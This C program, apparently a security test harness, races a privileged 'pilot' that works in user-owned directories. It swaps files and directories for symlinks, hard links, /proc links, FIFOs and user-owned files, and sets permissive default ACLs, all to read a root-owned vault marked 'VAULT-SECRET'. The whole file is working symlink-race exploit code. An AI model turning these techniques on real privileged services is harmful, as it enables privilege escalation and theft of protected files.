/* attacker: what the owner of a directory can do to a privileged pilot that reads and writes there.
 *
 *   attacker SECONDS VAULT WAY...
 *
 * In each WAY, a directory of this user's, stands `conf/`, in which a pilot has to do with files named "file…". VAULT
 * is root's, with files of the same names. For so many seconds this swaps names as fast as it can: files, directories
 * and the new files that the pilot makes give way to links to the vault, to FIFOs, to directories, to files of this
 * user's, and come back. Links lead there by way of /proc, too. What was opened once is kept open; what is made in the
 * directories is this user's to read, by a default ACL and a group. Whatever can be read is searched for the word of the
 * vault.
 *
 * Exit code: 0 nothing was won; 3 the word of the vault was read; 1 it could not begin. The number of swaps is printed. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define WORD "VAULT-SECRET"
#define NAMES 32
#define KEPT 200

static const char *vault;
static unsigned long swaps;
static unsigned seed;

static unsigned chance(unsigned below) {
  seed = seed * 1103515245u + 12345u;
  return (seed >> 16) % below;
}

static double now(void) {
  struct timespec time;
  (void)clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* --- reading ----------------------------------------------------------------------------- */

static void look_into(int fd, const char *name) {
  char text[4096];
  ssize_t size = read(fd, text, sizeof text - 1);
  if (size <= 0) return;
  text[size] = '\0';
  if (strstr(text, WORD) == NULL) return;
  printf("read the vault in %s: %s\n", name, text);
  exit(3);
}

/* What somebody writes later into a file that is open already is read by that descriptor. */
static void look(int directory, const char *name) {
  static int kept[KEPT];
  static unsigned next;
  int fd = openat(directory, name, O_RDWR | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
  if (fd < 0) fd = openat(directory, name, O_RDONLY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
  if (fd < 0) return;
  look_into(fd, name);
  int *place = &kept[next++ % KEPT];
  if (*place > 0) {
    (void)lseek(*place, 0, SEEK_SET);
    look_into(*place, "what was kept open");
    close(*place);
  }
  *place = fd;
}

/* --- swapping ---------------------------------------------------------------------------- */

static void clear(int directory, const char *name) {
  if (unlinkat(directory, name, 0) != 0 && errno == EISDIR)
    (void)unlinkat(directory, name, AT_REMOVEDIR);
}

static void own_file(int directory, const char *name) {
  int fd = openat(directory, name, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_NONBLOCK, 0666);
  if (fd < 0) return;
  (void)!write(fd, "A=mine\n", 7);
  close(fd);
}

/* What /proc shows of this process is owned by this user. */
static void link_by_proc(const char *path, int directory, const char *name) {
  static const char *const files[] = {"root", "uid_map", "mem", "oom_score_adj"};
  char target[2 * PATH_MAX];
  unsigned which = chance(4);
  (void)snprintf(target, sizeof target, "/proc/%d/%s%s", (int)getpid(), files[which],
                 which == 0 ? path : "");
  (void)symlinkat(target, directory, name);
}

/* What the owner of the old file wanted, root's secret becomes the old file. */
static void pretend(int directory) {
  (void)renameat(directory, "file0", directory, ".file0.luapilot-old");
  own_file(directory, "file0");
  look(directory, "file0");
  swaps++;
}

/* What stands there, or what the pilot is about to use, becomes something else. */
static void replace(int directory, const char *name, unsigned how) {
  char path[PATH_MAX];
  const char *base = strncmp(name, ".file", 5) == 0 ? name + 1 : name;
  (void)snprintf(path, sizeof path, "%s/%.*s", vault, (int)strcspn(base, "."), base);
  clear(directory, name);
  switch (how) {
  case 0: (void)symlinkat(path, directory, name); break;
  case 1: link_by_proc(path, directory, name); break;
  case 2: (void)symlinkat(vault, directory, name); break;
  case 3: (void)linkat(AT_FDCWD, path, directory, name, 0); break;
  case 4: (void)mkfifoat(directory, name, 0666); break;
  case 5: (void)mkdirat(directory, name, 0777); break;
  default: own_file(directory, name); break;
  }
  swaps++;
}

/* A new file of the pilot's may be moved into the place of another, too. */
static void play(int directory, const char *name) {
  look(directory, name);
  if (strstr(name, ".luapilot-") == NULL || chance(4) > 0) {
    replace(directory, name, chance(8));
    return;
  }
  char other[16];
  (void)snprintf(other, sizeof other, "file%u", chance(3));
  (void)renameat(directory, name, directory, other);
  swaps++;
}

static void play_names(int directory) {
  char names[NAMES][NAME_MAX + 1];
  int count = 0, fd = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR *entries = fd >= 0 ? fdopendir(fd) : NULL;
  const struct dirent *entry;
  while (entries && count < NAMES && (entry = readdir(entries)))
    if (strstr(entry->d_name, "file"))
      (void)snprintf(names[count++], sizeof names[0], "%s", entry->d_name);
  if (entries) (void)closedir(entries);
  for (int i = 0; i < count; i++) play(directory, names[i]);
}

/* The directory itself gives way to a link to the vault, and comes back. */
static void swap_directory(int way) {
  if (renameat(way, "conf", way, "away") != 0) return;
  (void)symlinkat(vault, way, "conf");
  swaps++;
  if (chance(2) == 0) usleep(chance(300));
  (void)unlinkat(way, "conf", 0);
  (void)renameat(way, "away", way, "conf");
}

/* Whatever is made in the directory, this user may read it. */
static void share(int directory) {
  static const struct {
    uint32_t version;
    struct {
      uint16_t tag, permissions;
      uint32_t id;
    } entries[5];
  } acl = {2, {{1, 7, ~0u}, {2, 7, 65534}, {4, 7, ~0u}, {16, 7, ~0u}, {32, 0, ~0u}}};
  (void)fchmod(directory, 02777);
  (void)fsetxattr(directory, "system.posix_acl_default", &acl, sizeof acl, 0);
}

/* --- two ways to be fast: always, and at the very moment ---------------------------------- */

struct way {
  int directory, conf;
};

static void react(struct way *ways, int count, int events) {
  char buffer[16384] __attribute__((aligned(8)));
  ssize_t size = read(events, buffer, sizeof buffer);
  for (char *at = buffer; at < buffer + (size > 0 ? size : 0);) {
    struct inotify_event *event = (void *)at;
    int index = event->wd - 1;
    if (event->len > 0 && index >= 0 && index < count && strstr(event->name, ".luapilot-"))
      play(ways[index].conf, event->name);
    at += sizeof *event + event->len;
  }
}

static void calm(struct way *ways, int count) {
  for (int i = 0; i < count; i++) {
    static const char *const names[] = {"file0", "file1", "file2"};
    for (int j = 0; j < 3; j++) {
      look(ways[i].conf, names[j]);
      replace(ways[i].conf, names[j], 7);
    }
  }
}

int main(int argc, char **argv) {
  if (argc < 4) return 1;
  double end = now() + atof(argv[1]);
  vault = argv[2];
  int count = argc - 3, events = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  struct way *ways = calloc((size_t)count, sizeof *ways);
  seed = (unsigned)getpid();
  for (int i = 0; i < count; i++) {
    char conf[PATH_MAX];
    (void)snprintf(conf, sizeof conf, "%s/conf", argv[i + 3]);
    ways[i].directory = open(argv[i + 3], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    ways[i].conf = open(conf, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    share(ways[i].conf);
    if (ways[i].conf < 0 || inotify_add_watch(events, conf, IN_CREATE | IN_MOVED_TO) != i + 1)
      return 1;
  }
  while (now() < end) {
    react(ways, count, events);
    int i = (int)chance((unsigned)count);
    unsigned what = chance(10);
    if (what == 0) swap_directory(ways[i].directory);
    if (what == 1) play_names(ways[i].conf);
    if (what == 2 || what == 3) replace(ways[i].conf, chance(2) ? "file0" : "file1", chance(8));
    if (what == 4) calm(ways + i, 1);
    if (what == 6) pretend(ways[i].conf);
    if (what == 5) usleep(chance(2000)); /* the pilot gets something done, too */
  }
  calm(ways, count);
  printf("%lu swaps\n", swaps);
  return 0;
}
